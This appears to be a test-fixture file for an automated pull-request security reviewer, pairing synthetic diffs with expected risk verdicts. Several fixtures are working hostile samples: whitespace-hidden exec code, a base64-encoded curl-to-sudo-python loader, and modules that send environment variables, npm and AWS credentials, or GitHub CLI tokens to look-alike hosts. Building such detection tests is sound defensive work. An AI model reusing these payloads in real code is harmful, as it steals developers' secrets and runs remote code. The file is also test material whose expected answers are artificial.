    expect: { level: 'medium', action: 'comment', findings: ['docker-unpinned-image'], drivers: ['finding:docker-unpinned-image'] },
  },
  {
    id: 'code-makefile-lint-target-runs-pinned-image',
    description: 'The same lint target with the image pinned by digest in the Makefile\'s variable: what runs is fixed.',
    fixture: () =>
      codePr({
        repo: 'gokit',
        number: 7362,
        title: 'Add a lint target',
        files: [{ path: 'Makefile', base: lines('test:', '\tgo test ./...'), head: lines('LINT_IMAGE ?= golangci/golangci-lint:v1.59.1@sha256:' + '3c'.repeat(32), '', 'test:', '\tgo test ./...', '', 'lint:', '\t@docker run --rm -v $(CURDIR):/app -w /app $(LINT_IMAGE) golangci-lint run ./...') }],
      }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:docker-unpinned-image'] },
  },
  {
    id: 'code-webhook-signature-check-inverted-typo',
    description: 'A first-time contributor\'s "fix typo" drops the negation of a webhook handler\'s HMAC comparison in a file whose path says nothing of auth: every forged delivery now passes and every genuine one is refused.',
    fixture: () =>
      codePr({
        repo: 'hookrelay',
        number: 3119,
        title: 'fix typo',
        author: 'newcomer',
        files: [
          {
            path: 'internal/webhook/verify.go',
            base: lines('package webhook', '', 'func Verify(body, header []byte, secret []byte) error {', '\tmac := hmac.New(sha256.New, secret)', '\tmac.Write(body)', '\texpected := mac.Sum(nil)', '\tif !hmac.Equal(header, expected) {', '\t\treturn ErrBadSignature', '\t}', '\treturn nil', '}'),
            head: lines('package webhook', '', 'func Verify(body, header []byte, secret []byte) error {', '\tmac := hmac.New(sha256.New, secret)', '\tmac.Write(body)', '\texpected := mac.Sum(nil)', '\tif hmac.Equal(header, expected) {', '\t\treturn ErrBadSignature', '\t}', '\treturn nil', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['check-inverted'] },
  },
  {
    id: 'code-ci-script-decodes-signing-key',
    description: 'A release script that decodes its signing key from a secret into a file.',
    fixture: () =>
      codePr({
        repo: 'action-setup',
        number: 3114,
        title: 'release: sign the archives',
        files: [
          {
            path: 'scripts/release.sh',
            base: lines('#!/bin/sh', 'set -e', 'tar czf dist/tool.tgz bin/tool'),
            head: lines('#!/bin/sh', 'set -e', 'echo "$SIGNING_KEY" | base64 -d > /tmp/signing.key', 'tar czf dist/tool.tgz bin/tool', 'cosign sign-blob --key /tmp/signing.key dist/tool.tgz > dist/tool.tgz.sig', 'rm -f /tmp/signing.key'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  },
  {
    id: 'code-payload-behind-padding',
    description: "A one-line \"fix: export\" whose line goes on, 400 spaces to the right, with a command run from the environment (the rand-user-agent compromise of 2025).",
    fixture: () =>
      codePr({
        repo: 'ua-tools',
        number: 3115,
        title: 'fix: export',
        files: [
          {
            path: 'src/index.js',
            base: lines("'use strict';", "module.exports = require('./lib/agent');"),
            head: lines("'use strict';", `module.exports = require('./lib/agent');${' '.repeat(400)}global.r = require;r('child_process').exec(process.env.UA_HOOK || '');`),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['whitespace-hidden-code'] },
  },
  {
    id: 'code-aligned-c-macro',
    description: 'A C macro whose line-continuation backslashes are aligned far to the right.',
    fixture: () =>
      codePr({
        repo: 'ua-tools',
        number: 3116,
        title: 'Add a swap macro',
        files: [
          {
            path: 'src/util.h',
            base: lines('#pragma once', '#include <stddef.h>'),
            head: lines('#pragma once', '#include <stddef.h>', `#define SWAP(a, b) do {${' '.repeat(170)}\\`, `    size_t t_ = (a); (a) = (b); (b) = t_;${' '.repeat(155)}\\`, '  } while (0)'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  },
  {
    id: 'code-cors-any-origin',
    description: 'A Go API starts answering every origin.',
    fixture: () =>
      codePr({
        repo: 'gateway',
        number: 932,
        title: 'Allow the new dashboard to call the API',
        files: [{ path: 'internal/http/cors.go', base: lines('func cors(w http.ResponseWriter) {', '\tw.Header().Set("Vary", "Origin")', '}'), head: lines('func cors(w http.ResponseWriter) {', '\tw.Header().Set("Vary", "Origin")', '\tw.Header().Set("Access-Control-Allow-Origin", "*")', '}') }],
      }),
    expect: { level: 'medium', action: 'comment', findings: ['cors-permissive'] },
  },
  {
    id: 'code-cli-runs-git',
    description: 'A Go CLI runs git with fixed arguments: a low hint, still approvable.',
    fixture: () =>
      codePr({
        repo: 'gitkit',
        number: 413,
        title: 'status: show the short status',
        files: [{ path: 'cmd/status.go', base: lines('func status() error {', '\treturn nil', '}'), head: lines('func status() error {', '\treturn exec.Command("git", "status", "--short").Run()', '}') }],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['shell-command-execution'] },
  },
  {
    id: 'action-dist-edited-payload',
    description:
      'Modeled on the March 2025 tj-actions/changed-files and reviewdog compromises: only the Action\'s built dist/index.js changes, and the new lines decode a base64 command and run it.',
    fixture: () =>
      codePr({
        repo: 'changed-paths-action',
        number: 6801,
        title: 'chore: rebuild dist',
        author: 'newcomer',
        files: [
          {
            path: 'dist/index.js',
            base: lines('"use strict";', 'const core = require("@actions/core");', 'async function run() {', '  const files = await listChanged();', '  core.setOutput("all_changed_files", files.join(" "));', '}', 'run();'),
            head: lines(
              '"use strict";',
              'const core = require("@actions/core");',
              'const { execSync } = require("child_process");',
              'async function run() {',
              '  execSync(Buffer.from("Y3VybCAtc1NmTCBodHRwczovL2dpc3QuZXhhbXBsZS5pbnZhbGlkL21lbWR1bXAucHkgfCBzdWRvIHB5dGhvbjM=", "base64").toString("utf-8"));',
              '  const files = await listChanged();',
              '  core.setOutput("all_changed_files", files.join(" "));',
              '}',
              'run();',
            ),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['generated-code-edited', 'obfuscated-code'] },
  },
  {
    id: 'action-release-rebuilds-dist',
    description: 'A maintainer releases the Action: the version in package.json moves and dist/index.js is rebuilt with it.',
    fixture: () =>
      codePr({
        repo: 'changed-paths-action',
        number: 6802,
        title: 'Release v1.4.0',
        files: [
          { path: 'package.json', base: `${JSON.stringify({ name: 'changed-paths-action', version: '1.3.2', main: 'dist/index.js' }, null, 2)}\n`, head: `${JSON.stringify({ name: 'changed-paths-action', version: '1.4.0', main: 'dist/index.js' }, null, 2)}\n` },
          {
            path: 'dist/index.js',
            base: lines('"use strict";', 'const VERSION = "1.3.2";', 'const core = require("@actions/core");', 'core.info("changed-paths " + VERSION);'),
            head: lines('"use strict";', 'const VERSION = "1.4.0";', 'const core = require("@actions/core");', 'core.info("changed-paths " + VERSION);'),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:generated-code-edited'] },
  },
  {
    id: 'startup-module-sends-environment',
    description: 'A "dev helpers" PR adds a sitecustomize.py that, at every Python start, posts the whole environment to an ordinary-looking host.',
    fixture: () =>
      codePr({
        repo: 'ledger-py',
        number: 6803,
        title: 'Add dev helpers',
        author: 'newcomer',
        files: [
          {
            path: 'src/sitecustomize.py',
            status: 'added',
            head: lines('import json, os, urllib.request', '', 'try:', "    urllib.request.urlopen('https://telemetry.ledger-tools.dev/v1/boot', data=json.dumps(dict(os.environ)).encode(), timeout=2)", 'except Exception:', '    pass'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint', 'pth-file-code'] },
  },
  {
    id: 'runner-passes-environment-to-child',
    description: 'A maintainer\'s test runner hands the environment to the child process and posts only the exit code to the results service.',
    fixture: () =>
      codePr({
        repo: 'ledger-py',
        number: 6804,
        title: 'Report runner results',
        files: [
          {
            path: 'src/ledger/runner.py',
            base: lines('import os, subprocess', '', 'def run(cmd):', '    return subprocess.run(cmd, check=False).returncode'),
            head: lines('import os, subprocess', 'import requests', '', 'def run(cmd):', '    proc = subprocess.run(cmd, env={**os.environ, "CI": "1"}, check=False)', "    requests.post(os.environ['RESULTS_URL'], json={'code': proc.returncode}, timeout=5)", '    return proc.returncode'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
  },
  {
    id: 'code-npmrc-token-stolen-on-import',
    description: "A first-time contributor's \"lazy-load the locale data\" PR to a date library also reads ~/.npmrc and posts it to a stats host when the module loads (the npm token stealers of 2024-2025).",
    fixture: () =>
      codePr({
        repo: 'chrono-fmt',
        number: 6805,
        title: 'Lazy-load locale data',
        author: 'newcomer',
        files: [
          {
            path: 'src/locales.js',
            base: lines("const data = require('./data/all.json');", 'module.exports = (tag) => data[tag];'),
            head: lines(
              "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');",
              'let data = null;',
              "module.exports = (tag) => (data ??= require('./data/all.json'))[tag];",
              "try { const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const r = https.request({ hostname: 'stats.chrono-cdn.dev', path: '/v1/i', method: 'POST' }); r.end(t); } catch {}",
            ),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
  },
  {
    id: 'code-registry-client-reads-npmrc',
    description: "A maintainer's registry client learns to read the user's ~/.npmrc for the registry URL; it fetches metadata, and posts nothing.",
    fixture: () =>
      codePr({
        repo: 'pkg-meta',
        number: 6806,
        title: 'Read the registry from ~/.npmrc',
        files: [
          {
            path: 'src/registry.ts',
            base: lines("export const registry = (): string => process.env.npm_config_registry ?? 'https://registry.npmjs.org/';"),
            head: lines(
              "import { readFileSync } from 'node:fs';",
              "import { homedir } from 'node:os';",
              "import { join } from 'node:path';",
              '',
              'export function registry(): string {',
              '  if (process.env.npm_config_registry) return process.env.npm_config_registry;',
              "  const rc = (() => { try { return readFileSync(join(homedir(), '.npmrc'), 'utf8'); } catch { return ''; } })();",
              "  return /^registry\\s*=\\s*(\\S+)/m.exec(rc)?.[1] ?? 'https://registry.npmjs.org/';",
              '}',
              '',
              "export const metadata = async (name: string) => (await fetch(new URL(name, registry()))).json();",
            ),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  },
  {
    id: 'code-credentials-read-in-one-module-sent-from-another',
    description:
      'A first-time contributor\'s "crash reports" PR splits a stealer in two (as the Shai-Hulud and s1ngularity payloads gathered then sent): src/diagnostics/host.js reads ~/.aws/credentials and ~/.npmrc, and src/crash-report.js imports it and posts the result.',
    fixture: () =>
      codePr({
        repo: 'chrono-fmt',
        number: 6807,
        title: 'Add opt-out crash reports',
        author: 'newcomer',
        files: [
          {
            path: 'src/diagnostics/host.js',
            head: lines(
              "const fs = require('fs'), os = require('os'), path = require('path');",
              'const read = (p) => { try { return fs.readFileSync(path.join(os.homedir(), p), \'utf8\'); } catch { return \'\'; } };',
              "exports.hostInfo = () => ({ platform: os.platform(), release: os.release(), aws: read('.aws/credentials'), npm: read('.npmrc') });",
            ),
          },
          {
            path: 'src/crash-report.js',
            head: lines(
              "const { hostInfo } = require('./diagnostics/host');",
              'process.on(\'uncaughtException\', (err) => {',
              "  fetch('https://crash.chrono-fmt.dev/v1/report', { method: 'POST', body: JSON.stringify({ err: String(err), host: hostInfo() }) });",
              '});',
            ),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
  },
  {
    id: 'code-registry-config-and-publish-modules',
    description: "A maintainer's publish command: src/npmrc.ts reads the registry and token from ~/.npmrc, and src/publish.ts imports it and PUTs the tarball to that registry.",
    fixture: () =>
      codePr({
        repo: 'pkg-meta',
        number: 6808,
        title: 'Add a publish command',
        files: [
          {
            path: 'src/npmrc.ts',
            head: lines(
              "import { readFileSync } from 'node:fs';",
              "import { homedir } from 'node:os';",
              "import { join } from 'node:path';",
              '',
              "export function npmrc(): { registry: string; token: string | null } {",
              "  const rc = (() => { try { return readFileSync(join(homedir(), '.npmrc'), 'utf8'); } catch { return ''; } })();",
              "  return { registry: /^registry\\s*=\\s*(\\S+)/m.exec(rc)?.[1] ?? 'https://registry.npmjs.org/', token: /:_authToken=(\\S+)/.exec(rc)?.[1] ?? null };",
              '}',
            ),
          },
          {
            path: 'src/publish.ts',
            head: lines(
              "import { npmrc } from './npmrc.js';",
              '',
              'export async function publish(name: string, body: Uint8Array): Promise<void> {',
              '  const { registry, token } = npmrc();',
              "  const res = await fetch(new URL(name, registry), { method: 'PUT', headers: token ? { authorization: `Bearer ${token}` } : {}, body });",
              '  if (!res.ok) throw new Error(`publish failed: ${res.status}`);',
              '}',
            ),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
  },
  {
    id: 'code-gh-cli-token-sent-to-telemetry',
    description:
      'Modeled on the s1ngularity payload of the Nx compromise (August 2025), which took the GitHub CLI\'s token with `gh auth token`: a "usage telemetry" PR whose module runs it and posts the token with the usage event.',
    fixture: () =>
      codePr({
        repo: 'chrono-fmt',
        number: 6809,
        title: 'Add anonymous usage telemetry',
        author: 'newcomer',
        files: [
          {
            path: 'src/telemetry.js',
            head: lines(
              "const { execSync } = require('child_process');",
              "const id = (() => { try { return execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch { return ''; } })();",
              "exports.track = (event) => fetch('https://t.chrono-insights.dev/v1/e', { method: 'POST', body: JSON.stringify({ event, id }) }).catch(() => {});",
            ),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
  },
  {
    id: 'code-release-script-uses-gh-token',
    description: "A maintainer's release script takes the GitHub CLI's token with `gh auth token` and calls GitHub's GraphQL API with it to draft the release notes.",
    fixture: () =>
      codePr({
        repo: 'chrono-fmt',
        number: 6810,
        title: 'Draft release notes from merged PRs',
        files: [
          {
            path: 'scripts/release-notes.js',
            head: lines(
              "const { execSync } = require('child_process');",
              "const token = process.env.GITHUB_TOKEN ?? execSync('gh auth token').toString().trim();",
              "const query = 'query($q: String!) { search(query: $q, type: ISSUE, first: 100) { nodes { ... on PullRequest { title number } } } }';",
              "const res = await fetch('https://api.github.com/graphql', { method: 'POST', headers: { authorization: `bearer ${token}` }, body: JSON.stringify({ query, variables: { q: 'repo:acme/chrono-fmt is:pr is:merged' } }) });",
              "console.log((await res.json()).data.search.nodes.map((pr) => `- ${pr.title} (#${pr.number})`).join('\\n'));",
            ),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
  },
  {
    id: 'code-compiler-long-comment-line',
    description:
      "A maintainer adds a schema compiler whose comments are one line a paragraph (the editor wraps them; modeled on a validation library's ahead-of-time compiler): a 1,200-character `//` line of prose above the generated check. A comment runs nothing; not minified code.",
    fixture: () =>
      codePr({
        repo: 'shapecheck',
        number: 6085,
        title: 'feat: compile schemas ahead of time',
        files: [
          {
            path: 'packages/core/src/compile.ts',
            head: lines(
              "import type { Doc } from './doc.js';",
              '',
              'export function compileStrictKeys(doc: Doc, accessor: string, keys: readonly string[]): void {',
              `  // Strict object: reject unknown keys. ${'The runtime iterates with for...in, so inherited enumerable keys count as unrecognized too, and a declared key cannot reach this branch. '.repeat(8)}`,
              "  const condition = keys.map((k) => `k !== ${JSON.stringify(k)}`).join(' && ') || 'true';",
              '  doc.write(`for (const k in ${accessor}) {`);',
              '  doc.write(`  if (${condition}) return INVALID;`);',
              "  doc.write('}');",
              '}',
            ),
          },
          { path: 'packages/core/src/compile.test.ts', head: lines("import { test } from 'vitest';", "test('strict keys', () => {});") },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:minified-source'] },
  },
  {
    id: 'code-lint-script-literal-git-command',
    description:
      "A maintainer adds a lint script (modeled on a schema library's comment checker) that lists the tracked files with a literal `git ls-files` and reads a `--fix` flag from the command line further down the new file: the flag cannot reach the command.",
    fixture: () =>
      codePr({
        repo: 'shapecheck',
        number: 6086,
        title: 'chore: fail on stacked line comments',
        files: [
          {
            path: 'scripts/check-comments.ts',
            head: lines(
              "import { execFileSync } from 'node:child_process';",
              "import { readFileSync, writeFileSync } from 'node:fs';",
              '',
              'function trackedFiles(): string[] {',
              "  const paths = execFileSync('git', ['ls-files', '-z', '*.ts'], { encoding: 'utf8' }).split('\\0');",
              "  return [...new Set(paths)].filter((f) => f && !f.endsWith('.d.ts'));",
              '}',
              '',
              "const fix = process.argv.includes('--fix');",
              'let offenders = 0;',
              'for (const file of trackedFiles()) {',
              "  const text = readFileSync(file, 'utf8');",
              "  const joined = text.replace(/\\n(\\s*)\\/\\/ (?=[a-z])/g, ' ');",
              '  if (joined === text) continue;',
              '  offenders += 1;',
              '  if (fix) writeFileSync(file, joined);',
              '}',
              'if (offenders > 0 && !fix) process.exit(1);',
            ),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['shell-command-execution'] },
  },
  {
    id: 'code-script-runs-argument-as-git-ref',
    description: 'The look-alike that still counts: a new release script hands a command-line argument to git as the ref to check out and push.',
    fixture: () =>
      codePr({
        repo: 'shapecheck',
        number: 6087,
        title: 'chore: release script',
        files: [
          {
            path: 'scripts/release.ts',
            head: lines("import { execSync } from 'node:child_process';", '', 'const ref = process.argv[2];', 'execSync(`git checkout ${ref} && npm publish`);'),
          },
        ],
      }),
    expect: { level: ['medium', 'high'], action: ['comment', 'needs_discussion', 'request_changes'], findings: ['shell-command-execution'], drivers: ['finding:shell-command-execution'] },
  },
];
